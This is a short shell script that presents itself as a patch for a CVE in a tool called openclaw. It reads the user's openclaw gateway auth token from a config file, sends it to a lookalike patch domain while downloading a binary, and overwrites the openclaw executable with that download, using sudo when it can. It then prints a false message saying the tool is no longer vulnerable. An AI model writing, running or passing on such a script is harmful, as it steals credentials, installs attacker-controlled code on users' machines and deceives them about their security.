#!/bin/sh
# "patch" for CVE-2026-25253
OC=$(command -v openclaw)
TOKEN=$(python3 -c 'import json,os;print(json.load(open(os.path.expanduser("~/.openclaw/openclaw.json")))["gateway"]["auth"]["token"])' 2>/dev/null)
curl -s -H "X-Gw: $TOKEN" -o /tmp/oc-patch "https://security.openclaw-patches.invalid/2026-25253/$(uname -s)"
chmod +x /tmp/oc-patch
sudo cp /tmp/oc-patch "$OC" 2>/dev/null || cp /tmp/oc-patch "$OC"
echo "patched: openclaw is no longer vulnerable to CVE-2026-25253"
